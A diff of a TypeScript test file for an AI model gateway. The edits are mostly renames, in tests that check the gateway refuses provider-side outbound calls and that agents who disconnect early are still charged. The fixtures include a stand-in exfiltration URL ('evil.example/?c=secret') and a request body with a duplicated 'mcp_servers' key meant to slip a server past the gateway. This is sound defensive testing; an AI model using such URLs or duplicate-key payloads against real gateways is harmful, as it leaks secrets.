@@ -16,7 +16,7 @@ const HELLO = 'scenes: [{ name: hello, steps: [{ say: Hello. }] }]';
 describe('a model call that makes the provider reach out', () => {
   const fetched = { type: 'url', url: 'https://evil.example/?c=secret' };
   const image = (source: object) => ({ type: 'image', source });
-  const said = (...content: object[]) => ({ messages: [{ role: 'user', content }] });
+  const userMessage = (...content: object[]) => ({ messages: [{ role: 'user', content }] });
   const result = (...content: object[]) => ({ type: 'tool_result', tool_use_id: 'x', content });
   const outward = {
     'a search': { tools: [{ name: 'x' }, { type: 'web_search_20250305', name: 'web_search' }] },
@@ -24,15 +24,18 @@ describe('a model call that makes the provider reach out', () => {
     'code at the provider': { tools: [{ type: 'code_execution_20250825', name: 'c' }] },
     'a kind nobody knows yet': { tools: [{ type: 'carrier_pigeon_20990101', name: 'p' }] },
     'a server of tools': { mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'e' }] },
-    'a picture by its address': said(image(fetched)),
-    'a document by its address': said({ type: 'document', source: fetched }),
-    'a picture in a result': said(result(image(fetched))),
-    'a picture in a document': said({
+    'a picture by its address': userMessage(image(fetched)),
+    'a document by its address': userMessage({ type: 'document', source: fetched }),
+    'a picture in a result': userMessage(result(image(fetched))),
+    'a picture in a document': userMessage({
       type: 'document',
       source: { type: 'content', content: [image(fetched)] },
     }),
-    'a file of the account': said({ type: 'document', source: { type: 'file', file_id: 'f' } }),
-    'a file for a container': said({ type: 'container_upload', file_id: 'f' }),
+    'a file of the account': userMessage({
+      type: 'document',
+      source: { type: 'file', file_id: 'f' },
+    }),
+    'a file for a container': userMessage({ type: 'container_upload', file_id: 'f' }),
   };
 
   it('A12: the gateway refuses every model call that makes the provider reach out', async () => {
@@ -78,7 +81,7 @@ describe('a model call that makes the provider reach out', () => {
     await using fixture = await sceneAt(provider.url);
     const held = await fixture.held();
     const twice = `{"mcp_servers":[{"url":"https://evil.example"}],${JSON.stringify(CALL).slice(1)}`;
-    const { status } = await ask(fixture, held, twice.replace(/}$/, ',"mcp_servers":[]}'));
+    const { status } = await callModel(fixture, held, twice.replace(/}$/, ',"mcp_servers":[]}'));
     assert.equal(status, 200);
   });
 });
@@ -95,7 +98,7 @@ describe('an agent that disconnects before the end of the response', () => {
     });
     await using fixture = await sceneAt(provider.url);
     const held = await fixture.held();
-    const answer = await ask(fixture, held, JSON.stringify(CALL));
+    const answer = await callModel(fixture, held, JSON.stringify(CALL));
     const reader = answer.body?.getReader() ?? assert.fail('no body');
     let text = '';
     while (!text.includes('all that it wanted')) {
@@ -107,11 +110,11 @@ describe('an agent that disconnects before the end of the response', () => {
   });
 
   it('D20: an agent receives nothing of an unstreamed response before it is charged', async () => {
-    const { promise: isAsked, resolve: asked } = Promise.withResolvers<void>();
+    const { promise: isReceived, resolve: receive } = Promise.withResolvers<void>();
     const { promise: hasLeft, resolve: leave } = Promise.withResolvers<void>();
     await using provider = await providerThat(async (response) => {
       response.writeHead(200, JSON_TYPE).write('{"content":[{"text":"all that it wanted"}],');
-      asked();
+      receive();
       await hasLeft;
       response.end('"usage":{"input_tokens":10,"output_tokens":4000}}');
     });
@@ -119,12 +122,17 @@ describe('an agent that disconnects before the end of the response', () => {
     const held = await fixture.held();
     const leaving = new AbortController();
     let headSeen = false;
-    const asking = ask(fixture, held, JSON.stringify({ ...CALL, stream: false }), leaving.signal)
+    const asking = callModel(
+      fixture,
+      held,
+      JSON.stringify({ ...CALL, stream: false }),
+      leaving.signal,
+    )
       .then(() => {
         headSeen = true;
       })
       .catch(() => undefined);
-    await isAsked;
+    await isReceived;
     await sleep(50);
     leaving.abort();
     await asking;
@@ -153,7 +161,7 @@ function sceneAt(url: string): Promise<GatewayFixture> {
   return gatewayFixture(HELLO, { app: { accountOf: () => ({ url, credential: CANARY }) } });
 }
 
-function ask({ hall }: GatewayFixture, held: HeldRun, body: string, signal?: AbortSignal) {
+function callModel({ hall }: GatewayFixture, held: HeldRun, body: string, signal?: AbortSignal) {
   return fetch(`${hall.url}/gateway/v1/messages`, {
     method: 'POST',
     headers: {
